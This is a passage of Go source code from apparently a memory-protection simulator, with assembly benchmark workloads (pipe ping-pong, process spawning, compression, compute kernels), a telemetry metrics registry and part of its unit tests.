    mov ecx, quitt
    mov edx, 4
    mov eax, SYS_WRITE
    int 0x80
    mov ebx, -1
    mov ecx, 0
    mov eax, SYS_WAITPID
    int 0x80
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

child:
child_loop:
    mov esi, ab
    load ebx, [esi]
    mov ecx, tok2
    mov edx, 4
    mov eax, SYS_READ
    int 0x80
    mov ecx, tok2
    loadb eax, [ecx]
    cmp eax, 'Q'
    jz child_done
    mov esi, ba
    load ebx, [esi+4]
    mov ecx, tok2
    mov edx, 4
    mov eax, SYS_WRITE
    int 0x80
    jmp child_loop
child_done:
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

.data
ab:    .word 0, 0
ba:    .word 0, 0
tok:   .ascii "ping"
tok2:  .space 4
quitt: .ascii "QUIT"
`

// pipe-based context switching with a working set: like pipeCtxswSrc, but
// each process also touches an 8-page array and does some per-request
// computation each iteration. Used for the Fig. 9 fractional-splitting
// sweep, where the fraction of split pages determines how much of the
// working set must be re-split after each switch.
const pipeCtxswWSSrc = `
.equ SYS_EXIT, 1
.equ SYS_FORK, 2
.equ SYS_READ, 3
.equ SYS_WRITE, 4
.equ SYS_WAITPID, 7
.equ SYS_PIPE, 42
_start:
    mov ebx, ab
    mov eax, SYS_PIPE
    int 0x80
    mov ebx, ba
    mov eax, SYS_PIPE
    int 0x80
    mov eax, SYS_FORK
    int 0x80
    cmp eax, 0
    jz child

    mov ecx, ITERS
parent_loop:
    push ecx
    call touch
    mov esi, ab
    load ebx, [esi+4]
    mov ecx, tok
    mov edx, 4
    mov eax, SYS_WRITE
    int 0x80
    mov esi, ba
    load ebx, [esi]
    mov ecx, tok
    mov edx, 4
    mov eax, SYS_READ
    int 0x80
    pop ecx
    dec ecx
    cmp ecx, 0
    jnz parent_loop
    mov esi, ab
    load ebx, [esi+4]
    mov ecx, quitt
    mov edx, 4
    mov eax, SYS_WRITE
    int 0x80
    mov ebx, -1
    mov ecx, 0
    mov eax, SYS_WAITPID
    int 0x80
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

child:
child_loop:
    mov esi, ab
    load ebx, [esi]
    mov ecx, tok2
    mov edx, 4
    mov eax, SYS_READ
    int 0x80
    mov ecx, tok2
    loadb eax, [ecx]
    cmp eax, 'Q'
    jz child_done
    call touch
    mov esi, ba
    load ebx, [esi+4]
    mov ecx, tok2
    mov edx, 4
    mov eax, SYS_WRITE
    int 0x80
    jmp child_loop
child_done:
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

; touch one word on each of the 8 working-set pages, then compute a while
touch:
    mov esi, warr
    mov edx, 8
touch_loop:
    load eax, [esi]
    add eax, 1
    store [esi], eax
    add esi, 4096
    dec edx
    cmp edx, 0
    jnz touch_loop
    mov edx, 400
spin:
    mul eax, 13
    add eax, 7
    dec edx
    cmp edx, 0
    jnz spin
    ret

.data
ab:    .word 0, 0
ba:    .word 0, 0
tok:   .ascii "ping"
tok2:  .space 4
quitt: .ascii "QUIT"
.section ws 0x09000000 rw
warr:  .space 32768
`

// process creation: fork + exit + waitpid in a loop.
const spawnSrc = `
.equ SYS_EXIT, 1
.equ SYS_FORK, 2
.equ SYS_WAITPID, 7
_start:
    mov esi, 60
floop:
    mov eax, SYS_FORK
    int 0x80
    cmp eax, 0
    jz fchild
    mov ebx, -1
    mov ecx, 0
    mov eax, SYS_WAITPID
    int 0x80
    dec esi
    cmp esi, 0
    jnz floop
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80
fchild:
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80
`

// buffered writes ("filesystem throughput" stand-in): 4 KiB writes to fd 1.
const fswriteSrc = `
.equ SYS_EXIT, 1
.equ SYS_WRITE, 4
_start:
    mov esi, 400
wloop:
    mov ebx, 1
    mov ecx, buf
    mov edx, 4096
    mov eax, SYS_WRITE
    int 0x80
    dec esi
    cmp esi, 0
    jnz wloop
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80
.data
buf: .space 4096, 0x42
`

func withIters(src string, iters int) string {
	return fmt.Sprintf(".equ ITERS, %d\n%s", iters, src)
}

// RunSyscall measures raw syscall dispatch.
func RunSyscall(cfg splitmem.Config) (Metrics, error) {
	return runProgram(cfg, syscallSrc, "wl-syscall", "", 20000)
}

// RunPipeThroughput measures single-process pipe bandwidth.
func RunPipeThroughput(cfg splitmem.Config) (Metrics, error) {
	return runProgram(cfg, pipeTputSrc, "wl-pipetput", "", 2000*512)
}

// RunPipeCtxsw measures the pipe-based context-switch ping-pong.
func RunPipeCtxsw(cfg splitmem.Config, iters int) (Metrics, error) {
	return runProgram(cfg, withIters(pipeCtxswSrc, iters), "wl-pipectxsw", "", float64(iters))
}

// RunPipeCtxswWS is the working-set variant used by the Fig. 9 sweep.
func RunPipeCtxswWS(cfg splitmem.Config, iters int) (Metrics, error) {
	return runProgram(cfg, withIters(pipeCtxswWSSrc, iters), "wl-pipectxsw-ws", "", float64(iters))
}

// RunSpawn measures fork+wait process creation.
func RunSpawn(cfg splitmem.Config) (Metrics, error) {
	return runProgram(cfg, spawnSrc, "wl-spawn", "", 60)
}

// RunFswrite measures buffered 4 KiB writes.
func RunFswrite(cfg splitmem.Config) (Metrics, error) {
	return runProgram(cfg, fswriteSrc, "wl-fswrite", "", 400*4096)
}

// UnixbenchScore runs the whole suite under cfg and base, returning the
// geometric mean of the per-test normalized scores (the paper's "Unixbench
// index" treatment) along with the per-test ratios.
func UnixbenchScore(base, cfg splitmem.Config) (float64, map[string]float64, error) {
	tests := []struct {
		name string
		run  func(splitmem.Config) (Metrics, error)
	}{
		{"syscall", RunSyscall},
		{"pipe-throughput", RunPipeThroughput},
		{"pipe-ctxsw", func(c splitmem.Config) (Metrics, error) { return RunPipeCtxsw(c, 400) }},
		{"spawn", RunSpawn},
		{"fswrite", RunFswrite},
	}
	ratios := make(map[string]float64, len(tests))
	logSum := 0.0
	for _, tt := range tests {
		b, err := tt.run(base)
		if err != nil {
			return 0, nil, fmt.Errorf("%s baseline: %w", tt.name, err)
		}
		p, err := tt.run(cfg)
		if err != nil {
			return 0, nil, fmt.Errorf("%s protected: %w", tt.name, err)
		}
		r := Normalized(b, p)
		ratios[tt.name] = r
		if r <= 0 {
			return 0, ratios, fmt.Errorf("%s: non-positive ratio", tt.name)
		}
		logSum += math.Log(r)
	}
	return math.Exp(logSum / float64(len(tests))), ratios, nil
}
