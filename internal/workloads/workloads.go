// Package workloads implements the performance evaluation programs of §6.2:
// an ApacheBench-style multi-process web server, a gzip-style streaming
// compressor, nbench-style compute kernels, and the Unixbench-style
// microbenchmark suite (syscall, pipe throughput, pipe-based context
// switching, process creation, buffered writes). Each runs as real guest
// code on the simulated machine; results are simulated-cycle counts, and
// the benchmark harness reports performance normalized to an unprotected
// run, exactly as Figs. 6-9 do.
package workloads

import (
	"fmt"

	"splitmem"
)

// Metrics reports one workload run.
type Metrics struct {
	Cycles uint64  // simulated cycles consumed
	Work   float64 // workload-specific work units completed (requests, bytes, iterations)
}

// Throughput is work per megacycle.
func (m Metrics) Throughput() float64 {
	if m.Cycles == 0 {
		return 0
	}
	return m.Work / (float64(m.Cycles) / 1e6)
}

// Normalized returns protected throughput relative to baseline.
func Normalized(baseline, protected Metrics) float64 {
	bt := baseline.Throughput()
	if bt == 0 {
		return 0
	}
	return protected.Throughput() / bt
}

// runProgram boots a machine under cfg, spawns src (raw, no CRT unless the
// source includes it), feeds input, runs to completion and returns metrics
// with the given work amount.
func runProgram(cfg splitmem.Config, src, name, input string, work float64) (Metrics, error) {
	m, err := splitmem.New(cfg)
	if err != nil {
		return Metrics{}, err
	}
	p, err := m.LoadAsm(src, name)
	if err != nil {
		return Metrics{}, fmt.Errorf("%s: %w", name, err)
	}
	if input != "" {
		p.StdinWrite([]byte(input))
		p.StdinClose()
	}
	res := m.Run(40_000_000_000)
	if res.Reason != splitmem.ReasonAllDone {
		return Metrics{}, fmt.Errorf("%s: run stopped: %v (alive=%v)", name, res.Reason, p.Alive())
	}
	if exited, status := p.Exited(); !exited || status != 0 {
		killed, sig := p.Killed()
		return Metrics{}, fmt.Errorf("%s: exited=%v status=%d killed=%v sig=%v addr=%#x",
			name, exited, status, killed, sig, p.FaultAddr())
	}
	return Metrics{Cycles: m.Cycles(), Work: work}, nil
}
