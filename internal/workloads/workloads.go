// Package workloads implements the performance evaluation programs of §6.2:
// an ApacheBench-style multi-process web server, a gzip-style streaming
// compressor, nbench-style compute kernels, and the Unixbench-style
// microbenchmark suite (syscall, pipe throughput, pipe-based context
// switching, process creation, buffered writes). Each runs as real guest
// code on the simulated machine; results are simulated-cycle counts, and
// the benchmark harness reports performance normalized to an unprotected
// run, exactly as Figs. 6-9 do.
package workloads

import (
	"fmt"

	"splitmem"
)

// Metrics reports one workload run.
type Metrics struct {
	Cycles uint64  // simulated cycles consumed
	Work   float64 // workload-specific work units completed (requests, bytes, iterations)
}

// Throughput is work per megacycle.
func (m Metrics) Throughput() float64 {
	if m.Cycles == 0 {
		return 0
	}
	return m.Work / (float64(m.Cycles) / 1e6)
}

// Normalized returns protected throughput relative to baseline.
func Normalized(baseline, protected Metrics) float64 {
	bt := baseline.Throughput()
	if bt == 0 {
		return 0
	}
	return protected.Throughput() / bt
}

// Program is a self-contained workload guest image that an external harness
// (the fleet runner) can load onto a machine it owns — unlike the RunX
// entry points, which build and discard their machine, keeping its stats
// and telemetry out of reach.
type Program struct {
	Name  string
	Src   string  // S86 assembly source
	Input string  // stdin to feed, "" for none
	Work  float64 // work units a successful run completes
}

// Catalog returns the workload programs runnable on a caller-owned machine.
// Multi-parameter workloads (httpd page sweeps, pipe ping-pong sizes) keep
// their dedicated RunX entry points and are not listed.
func Catalog() []Program {
	return []Program{
		{Name: "nbench", Src: nbenchSrc, Work: 600000 + 32*1024},
		{Name: "gzip", Src: gzipSrc, Work: 1048576},
		{Name: "syscall", Src: syscallSrc, Work: 20000},
		{Name: "pipe-throughput", Src: pipeTputSrc, Work: 2000 * 512},
		{Name: "fswrite", Src: fswriteSrc, Work: 400 * 4096},
	}
}

// Lookup returns the cataloged program with the given name.
func Lookup(name string) (Program, bool) {
	for _, p := range Catalog() {
		if p.Name == name {
			return p, true
		}
	}
	return Program{}, false
}

// runProgram boots a machine under cfg, spawns src (raw, no CRT unless the
// source includes it), feeds input, runs to completion and returns metrics
// with the given work amount.
func runProgram(cfg splitmem.Config, src, name, input string, work float64) (Metrics, error) {
	m, err := splitmem.New(cfg)
	if err != nil {
		return Metrics{}, err
	}
	p, err := m.LoadAsm(src, name)
	if err != nil {
		return Metrics{}, fmt.Errorf("%s: %w", name, err)
	}
	if input != "" {
		p.StdinWrite([]byte(input))
		p.StdinClose()
	}
	res := m.Run(40_000_000_000)
	if res.Reason != splitmem.ReasonAllDone {
		return Metrics{}, fmt.Errorf("%s: run stopped: %v (alive=%v)", name, res.Reason, p.Alive())
	}
	if exited, status := p.Exited(); !exited || status != 0 {
		killed, sig := p.Killed()
		return Metrics{}, fmt.Errorf("%s: exited=%v status=%d killed=%v sig=%v addr=%#x",
			name, exited, status, killed, sig, p.FaultAddr())
	}
	return Metrics{Cycles: m.Cycles(), Work: work}, nil
}
