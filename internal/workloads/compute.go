package workloads

import (
	"fmt"

	"splitmem"
)

// gzip-style streaming compressor (§6.2, Fig. 6): generates pseudo-random
// data with an LCG across a large demand-paged buffer, then RLE-compresses
// it into a second buffer. The access pattern streams through far more
// pages than the DTLB holds, so the split system pays a trap-mediated
// data-TLB load per page — the paper's 87%-of-full-speed case.
const gzipSrc = `
.equ SYS_EXIT, 1
.equ SYS_BRK, 45
_start:
    ; src = brk(0); grow by src + dst (+ slack)
    mov ebx, 0
    mov eax, SYS_BRK
    int 0x80
    mov esi, eax            ; esi = src
    mov ebx, eax
    mov ecx, g_srcsize
    load ecx, [ecx]
    add ebx, ecx
    add ebx, ecx
    add ebx, ecx            ; worst-case RLE output is 2x the input
    add ebx, 4096
    mov eax, SYS_BRK
    int 0x80
    mov edi, esi
    mov ecx, g_srcsize
    load ecx, [ecx]
    add edi, ecx            ; edi = dst = src + srcsize

    ; generate: LCG word stream (word-wise, like a buffered file read)
    mov eax, 12345          ; seed
    mov ebx, esi            ; cursor
    mov ecx, g_srcsize
    load ecx, [ecx]
    shr ecx, 2              ; words
gen:
    mul eax, 1103515245
    add eax, 12345
    mov edx, eax
    and edx, 0x03030303     ; small alphabet so runs exist
    store [ebx], edx
    add ebx, 4
    dec ecx
    cmp ecx, 0
    jnz gen

    ; compress: word-wise RLE with a rolling checksum
    mov ebx, esi            ; read cursor
    mov ecx, g_srcsize
    load ecx, [ecx]
    shr ecx, 2
    mov edx, 0              ; run length
    load eax, [ebx]         ; current value
compress:
    cmp ecx, 0
    jle flush
    push edx
    load edx, [ebx]
    cmp edx, eax
    pop edx
    jnz emit
    inc edx
    add ebx, 4
    dec ecx
    jmp compress
emit:
    store [edi], edx
    load eax, [ebx]
    store [edi+4], eax
    add edi, 8
    mov edx, 0
    jmp compress
flush:
    store [edi], edx
    store [edi+4], eax

    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

.data
g_srcsize: .word 1048576
`

// RunGzip compresses 1 MiB and reports bytes processed as work.
func RunGzip(cfg splitmem.Config) (Metrics, error) {
	return runProgram(cfg, gzipSrc, "wl-gzip", "", 1048576)
}

// nbench-style compute kernels (§6.2, Fig. 6): integer arithmetic, bit
// twiddling and an in-place insertion sort over one page of data — tiny
// working set, so split memory's cost is paid once and amortized to
// near-zero (the paper's ~97% case).
const nbenchSrc = `
.equ SYS_EXIT, 1
_start:
    ; kernel 1: integer arithmetic loop
    mov eax, 1
    mov ebx, 0
    mov edi, 1000003
    mov ecx, 300000
arith:
    mul eax, 13
    add eax, 7
    mod eax, edi
    add ebx, eax
    dec ecx
    cmp ecx, 0
    jnz arith

    ; kernel 2: bit twiddling
    mov eax, 0xdeadbeef
    mov ecx, 300000
bits:
    mov edx, eax
    shl edx, 3
    xor eax, edx
    mov edx, eax
    shr edx, 5
    xor eax, edx
    dec ecx
    cmp ecx, 0
    jnz bits

    ; kernel 3: insertion sort over 256 scrambled bytes, repeated
    mov ecx, 8              ; passes
sortpass:
    push ecx
    ; scramble
    mov eax, ecx
    add eax, 987654321
    mov ebx, arr
    mov ecx, 256
scramble:
    mul eax, 1103515245
    add eax, 12345
    mov edx, eax
    shr edx, 16
    storeb [ebx], edx
    inc ebx
    dec ecx
    cmp ecx, 0
    jnz scramble
    ; sort
    mov esi, arr
    mov ecx, 1
outer:
    cmp ecx, 256
    jge sorted
    mov edi, ecx
inner:
    cmp edi, 0
    jle next
    mov eax, esi
    add eax, edi
    loadb edx, [eax-1]
    loadb ebx, [eax]
    cmp ebx, edx
    jge next
    storeb [eax-1], ebx
    storeb [eax], edx
    dec edi
    jmp inner
next:
    inc ecx
    jmp outer
sorted:
    pop ecx
    dec ecx
    cmp ecx, 0
    jnz sortpass

    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

.data
arr: .space 1024, 0x55
`

// RunNbench runs the compute kernels and reports iterations as work.
func RunNbench(cfg splitmem.Config) (Metrics, error) {
	return runProgram(cfg, nbenchSrc, "wl-nbench", "", 600000+32*1024)
}

// Validate basic agreement: compressing under any protection must produce
// the same machine-visible behavior. Exposed for tests.
func ValidateComputeConsistency(prots []splitmem.Protection) error {
	var first Metrics
	for i, p := range prots {
		m, err := RunNbench(splitmem.Config{Protection: p})
		if err != nil {
			return err
		}
		if i == 0 {
			first = m
		}
		if m.Work != first.Work {
			return fmt.Errorf("work mismatch across protections")
		}
	}
	return nil
}
