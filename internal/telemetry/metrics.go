package telemetry

import (
	"fmt"
	"sort"
	"sync"
)

// DefaultCycleBuckets are the fixed histogram bucket upper bounds used for
// simulated-cycle latency distributions when no explicit boundaries are
// given. They cover the interesting range of the PIII-calibrated cost
// model: a bare TLB walk (~25 cycles) up to a pathological trap storm.
var DefaultCycleBuckets = []uint64{
	25, 50, 100, 200, 400, 800, 1600, 3200, 6400, 12800, 25600, 51200,
}

// Counter is a monotonically increasing metric.
type Counter struct {
	name, help string
	v          uint64
}

// Add increments the counter by n. No-op on a nil counter.
func (c *Counter) Add(n uint64) {
	if c == nil {
		return
	}
	c.v += n
}

// Inc increments the counter by one. No-op on a nil counter.
func (c *Counter) Inc() { c.Add(1) }

// Value returns the current count (0 for a nil counter).
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	return c.v
}

// Gauge is a metric that can go up and down.
type Gauge struct {
	name, help string
	v          float64
}

// Set stores v. No-op on a nil gauge.
func (g *Gauge) Set(v float64) {
	if g == nil {
		return
	}
	g.v = v
}

// Add adjusts the gauge by d. No-op on a nil gauge.
func (g *Gauge) Add(d float64) {
	if g == nil {
		return
	}
	g.v += d
}

// Value returns the current value (0 for a nil gauge).
func (g *Gauge) Value() float64 {
	if g == nil {
		return 0
	}
	return g.v
}

// Histogram is a fixed-bucket distribution of simulated-cycle values.
// Bucket boundaries are upper bounds (cumulative export, Prometheus
// style); an implicit +Inf bucket catches the tail.
type Histogram struct {
	name, help string
	bounds     []uint64
	counts     []uint64 // len(bounds)+1; last is +Inf
	sum        uint64
	n          uint64
	min, max   uint64
}

// Observe records one value. No-op on a nil histogram.
func (h *Histogram) Observe(v uint64) {
	if h == nil {
		return
	}
	i := sort.Search(len(h.bounds), func(i int) bool { return v <= h.bounds[i] })
	h.counts[i]++
	h.sum += v
	h.n++
	if h.n == 1 || v < h.min {
		h.min = v
	}
	if v > h.max {
		h.max = v
	}
}

// Count returns the number of observations (0 for a nil histogram).
func (h *Histogram) Count() uint64 {
	if h == nil {
		return 0
	}
	return h.n
}

// Sum returns the sum of all observed values.
func (h *Histogram) Sum() uint64 {
	if h == nil {
		return 0
	}
	return h.sum
}

// Min and Max return the observed extremes (0, 0 before any observation).
func (h *Histogram) Min() uint64 {
	if h == nil {
		return 0
	}
	return h.min
}

// Max returns the largest observed value.
func (h *Histogram) Max() uint64 {
	if h == nil {
		return 0
	}
	return h.max
}

// Mean returns the arithmetic mean of the observations (0 when empty).
func (h *Histogram) Mean() float64 {
	if h == nil || h.n == 0 {
		return 0
	}
	return float64(h.sum) / float64(h.n)
}

// Buckets returns the bucket upper bounds and their (non-cumulative)
// counts; the final count is the +Inf bucket. Nil-safe.
func (h *Histogram) Buckets() (bounds []uint64, counts []uint64) {
	if h == nil {
		return nil, nil
	}
	return h.bounds, h.counts
}

// CounterVec is a counter with one label dimension — the registry's
// "heatmap" primitive (per-page and per-process split activity). Labels
// are kept in first-seen order so exports are deterministic.
type CounterVec struct {
	name, help, label string
	vals              map[string]uint64
	order             []string
}

// Add increments the counter for the given label value. No-op on nil.
func (v *CounterVec) Add(label string, n uint64) {
	if v == nil {
		return
	}
	if _, ok := v.vals[label]; !ok {
		v.order = append(v.order, label)
	}
	v.vals[label] += n
}

// Value returns the count for a label value.
func (v *CounterVec) Value(label string) uint64 {
	if v == nil {
		return 0
	}
	return v.vals[label]
}

// LabelCount is one (label value, count) pair of a CounterVec.
type LabelCount struct {
	Label string
	Count uint64
}

// Items returns every (label, count) pair in first-seen order. Nil-safe.
func (v *CounterVec) Items() []LabelCount {
	if v == nil {
		return nil
	}
	out := make([]LabelCount, 0, len(v.order))
	for _, l := range v.order {
		out = append(out, LabelCount{Label: l, Count: v.vals[l]})
	}
	return out
}

// Top returns the n largest (label, count) pairs, descending by count
// (ties broken by first-seen order). Nil-safe.
func (v *CounterVec) Top(n int) []LabelCount {
	items := v.Items()
	sort.SliceStable(items, func(i, j int) bool { return items[i].Count > items[j].Count })
	if n > 0 && len(items) > n {
		items = items[:n]
	}
	return items
}

// metricKind discriminates the registry's entry table.
type metricKind int

const (
	kindCounter metricKind = iota
	kindGauge
	kindGaugeFunc
	kindHistogram
	kindCounterVec
)

// entry is one registered metric.
type entry struct {
	kind metricKind
	name string
	help string

	counter *Counter
	gauge   *Gauge
	fn      func() float64
	hist    *Histogram
	vec     *CounterVec
}

// Registry holds a machine's metrics in registration order. It is not
// goroutine-safe — the simulator is single-threaded and exporters run
// between Run slices — with one exception: Merge (merge.go) serializes on
// an internal lock so concurrent fleet workers can fold finished machines
// into one aggregate registry.
type Registry struct {
	entries []*entry
	byName  map[string]*entry
	mergeMu sync.Mutex
}

// NewRegistry creates an empty registry.
func NewRegistry() *Registry {
	return &Registry{byName: map[string]*entry{}}
}

// lookup returns the existing entry for name if its kind matches; the
// second result reports whether a fresh registration is needed. Duplicate
// names with a different kind yield a detached (unregistered) metric
// rather than a panic — telemetry must never take the simulator down.
func (r *Registry) lookup(name string, kind metricKind) (*entry, bool) {
	e, ok := r.byName[name]
	if !ok {
		return nil, true
	}
	if e.kind != kind {
		return nil, false
	}
	return e, false
}

func (r *Registry) register(e *entry) {
	r.entries = append(r.entries, e)
	r.byName[e.name] = e
}

// Counter registers (or returns the existing) counter. Nil-safe: a nil
// registry returns a nil counter, whose methods no-op.
func (r *Registry) Counter(name, help string) *Counter {
	if r == nil {
		return nil
	}
	if e, fresh := r.lookup(name, kindCounter); e != nil {
		return e.counter
	} else if !fresh {
		return &Counter{name: name, help: help}
	}
	c := &Counter{name: name, help: help}
	r.register(&entry{kind: kindCounter, name: name, help: help, counter: c})
	return c
}

// Gauge registers (or returns the existing) gauge.
func (r *Registry) Gauge(name, help string) *Gauge {
	if r == nil {
		return nil
	}
	if e, fresh := r.lookup(name, kindGauge); e != nil {
		return e.gauge
	} else if !fresh {
		return &Gauge{name: name, help: help}
	}
	g := &Gauge{name: name, help: help}
	r.register(&entry{kind: kindGauge, name: name, help: help, gauge: g})
	return g
}

// GaugeFunc registers a gauge sampled by calling fn at export time — the
// zero-hot-path-cost way for a package to expose counters it already
// maintains (TLB hit/miss totals, allocator statistics, chaos fault
// counts). Re-registering a name replaces the sampler.
func (r *Registry) GaugeFunc(name, help string, fn func() float64) {
	if r == nil || fn == nil {
		return
	}
	if e, _ := r.lookup(name, kindGaugeFunc); e != nil {
		e.fn = fn
		return
	}
	r.register(&entry{kind: kindGaugeFunc, name: name, help: help, fn: fn})
}

// Histogram registers (or returns the existing) fixed-bucket histogram.
// A nil bounds slice selects DefaultCycleBuckets. Bounds must be sorted
// ascending.
func (r *Registry) Histogram(name, help string, bounds []uint64) *Histogram {
	if r == nil {
		return nil
	}
	if e, fresh := r.lookup(name, kindHistogram); e != nil {
		return e.hist
	} else if !fresh {
		return newHistogram(name, help, bounds)
	}
	h := newHistogram(name, help, bounds)
	r.register(&entry{kind: kindHistogram, name: name, help: help, hist: h})
	return h
}

func newHistogram(name, help string, bounds []uint64) *Histogram {
	if len(bounds) == 0 {
		bounds = DefaultCycleBuckets
	}
	return &Histogram{
		name:   name,
		help:   help,
		bounds: bounds,
		counts: make([]uint64, len(bounds)+1),
	}
}

// CounterVec registers (or returns the existing) one-label counter
// vector. label is the Prometheus label key ("page", "pid").
func (r *Registry) CounterVec(name, help, label string) *CounterVec {
	if r == nil {
		return nil
	}
	if e, fresh := r.lookup(name, kindCounterVec); e != nil {
		return e.vec
	} else if !fresh {
		return &CounterVec{name: name, help: help, label: label, vals: map[string]uint64{}}
	}
	v := &CounterVec{name: name, help: help, label: label, vals: map[string]uint64{}}
	r.register(&entry{kind: kindCounterVec, name: name, help: help, vec: v})
	return v
}

// Lookup returns a registered histogram by name, or nil. It lets tests
// and tools read instruments they did not create.
func (r *Registry) LookupHistogram(name string) *Histogram {
	if r == nil {
		return nil
	}
	if e, ok := r.byName[name]; ok && e.kind == kindHistogram {
		return e.hist
	}
	return nil
}

// LookupCounter returns a registered counter by name, or nil.
func (r *Registry) LookupCounter(name string) *Counter {
	if r == nil {
		return nil
	}
	if e, ok := r.byName[name]; ok && e.kind == kindCounter {
		return e.counter
	}
	return nil
}

// LookupCounterVec returns a registered counter vector by name, or nil.
func (r *Registry) LookupCounterVec(name string) *CounterVec {
	if r == nil {
		return nil
	}
	if e, ok := r.byName[name]; ok && e.kind == kindCounterVec {
		return e.vec
	}
	return nil
}

// Len returns the number of registered metrics.
func (r *Registry) Len() int {
	if r == nil {
		return 0
	}
	return len(r.entries)
}

// kindString names the metric kind in exports.
func (k metricKind) String() string {
	switch k {
	case kindCounter, kindCounterVec:
		return "counter"
	case kindGauge, kindGaugeFunc:
		return "gauge"
	case kindHistogram:
		return "histogram"
	}
	return fmt.Sprintf("kind(%d)", int(k))
}
