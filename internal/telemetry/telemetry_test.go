package telemetry

import (
	"bufio"
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

func TestNilSafety(t *testing.T) {
	// Every method on every nil receiver must be a no-op, never a panic:
	// this is the contract that lets instrumentation compile in while
	// telemetry is disabled.
	var h *Hub
	if h.Registry() != nil || h.Spans() != nil {
		t.Fatal("nil hub must yield nil components")
	}
	var r *Registry
	r.Counter("c", "").Inc()
	r.Gauge("g", "").Set(1)
	r.GaugeFunc("f", "", func() float64 { return 1 })
	r.Histogram("h", "", nil).Observe(1)
	r.CounterVec("v", "", "l").Add("x", 1)
	if r.Len() != 0 || r.LookupHistogram("h") != nil || r.LookupCounter("c") != nil || r.LookupCounterVec("v") != nil {
		t.Fatal("nil registry must stay empty")
	}
	if err := r.WritePrometheus(&bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	if err := r.WriteMetricsJSONL(&bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}

	var b *SpanBuffer
	id := b.Begin("s", 1, 2, 3)
	if id.Valid() {
		t.Fatal("nil buffer must return invalid span ids")
	}
	if _, ok := b.End(id, 4); ok {
		t.Fatal("End on nil buffer must report !ok")
	}
	b.Instant("i", 1, 2, 3)
	if b.Len() != 0 || b.Cap() != 0 || b.Dropped() != 0 || b.Spans() != nil {
		t.Fatal("nil buffer must stay empty")
	}
	if err := b.WriteSpansJSONL(&bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	if err := b.WriteTraceEvents(&bytes.Buffer{}, nil); err != nil {
		t.Fatal(err)
	}

	var c *Counter
	c.Add(1)
	var g *Gauge
	g.Add(1)
	var hist *Histogram
	hist.Observe(1)
	if hist.Mean() != 0 {
		t.Fatal("nil histogram mean")
	}
	var v *CounterVec
	v.Add("x", 1)
	if v.Top(3) != nil {
		t.Fatal("nil vec top")
	}
}

func TestHistogramBuckets(t *testing.T) {
	h := NewRegistry().Histogram("lat", "", []uint64{10, 100, 1000})
	for _, v := range []uint64{5, 10, 11, 99, 100, 5000} {
		h.Observe(v)
	}
	bounds, counts := h.Buckets()
	if len(bounds) != 3 || len(counts) != 4 {
		t.Fatalf("bounds=%v counts=%v", bounds, counts)
	}
	// le=10: {5,10}; le=100: {11,99,100}; le=1000: {}; +Inf: {5000}.
	want := []uint64{2, 3, 0, 1}
	for i, w := range want {
		if counts[i] != w {
			t.Fatalf("bucket %d: got %d want %d (counts=%v)", i, counts[i], w, counts)
		}
	}
	if h.Count() != 6 || h.Min() != 5 || h.Max() != 5000 {
		t.Fatalf("count=%d min=%d max=%d", h.Count(), h.Min(), h.Max())
	}
	if h.Sum() != 5+10+11+99+100+5000 {
		t.Fatalf("sum=%d", h.Sum())
	}
}

func TestRegistryIdempotentAndMismatch(t *testing.T) {
	r := NewRegistry()
	c1 := r.Counter("x", "help")
	c2 := r.Counter("x", "other")
	if c1 != c2 {
		t.Fatal("same-name same-kind registration must return the existing metric")
	}
	// A kind mismatch yields a detached metric, never a panic.
	g := r.Gauge("x", "")
	g.Set(7)
	if r.Len() != 1 {
		t.Fatalf("registry len=%d, want 1", r.Len())
	}
}

func TestCounterVecTop(t *testing.T) {
	v := NewRegistry().CounterVec("pages", "", "page")
	v.Add("a", 3)
	v.Add("b", 10)
	v.Add("c", 10)
	v.Add("a", 1)
	top := v.Top(2)
	if len(top) != 2 || top[0].Label != "b" || top[1].Label != "c" {
		t.Fatalf("top=%v", top)
	}
	if v.Value("a") != 4 {
		t.Fatalf("a=%d", v.Value("a"))
	}
	items := v.Items()
	if len(items) != 3 || items[0].Label != "a" {
		t.Fatalf("items=%v (want first-seen order)", items)
	}
}

func TestSpanBufferRing(t *testing.T) {
	b := NewSpanBuffer(16)
	id := b.Begin("itlb-load", 1, 0x1000, 100)
	if !id.Valid() {
		t.Fatal("invalid id")
	}
	start, ok := b.End(id, 150)
	if !ok || start != 100 {
		t.Fatalf("End: start=%d ok=%v", start, ok)
	}
	child := b.BeginChild("tf-single-step", 1, 0x1000, 110, id)
	b.End(child, 140)
	b.Instant("injection-detected", 1, 0x1000, 160)

	spans := b.Spans()
	if len(spans) != 3 {
		t.Fatalf("len=%d", len(spans))
	}
	if spans[1].Parent != spans[0].Seq {
		t.Fatalf("child parent=%d want %d", spans[1].Parent, spans[0].Seq)
	}
	if !spans[2].Instant || spans[2].Dur() != 0 {
		t.Fatal("instant must have zero duration")
	}
	if spans[0].Dur() != 50 {
		t.Fatalf("dur=%d", spans[0].Dur())
	}

	// Overflow: an evicted span's End must no-op.
	stale := b.Begin("old", 1, 0, 1)
	for i := 0; i < 20; i++ {
		b.Instant("fill", 1, 0, uint64(i))
	}
	if _, ok := b.End(stale, 999); ok {
		t.Fatal("End of an evicted span must report !ok")
	}
	if b.Dropped() == 0 {
		t.Fatal("ring should report drops after overflow")
	}
	if b.Len() != b.Cap() {
		t.Fatalf("len=%d cap=%d", b.Len(), b.Cap())
	}
	if tail := b.Tail(4); len(tail) != 4 || tail[3].Start != 19 {
		t.Fatalf("tail=%v", tail)
	}
}

func TestWritePrometheus(t *testing.T) {
	r := NewRegistry()
	r.Counter("splitmem_detections_total", "detections").Add(2)
	r.Gauge("splitmem_pages", "").Set(7)
	r.GaugeFunc("splitmem_sampled", "sampled", func() float64 { return 1.5 })
	h := r.Histogram("splitmem_lat_cycles", "latency", []uint64{10, 100})
	h.Observe(5)
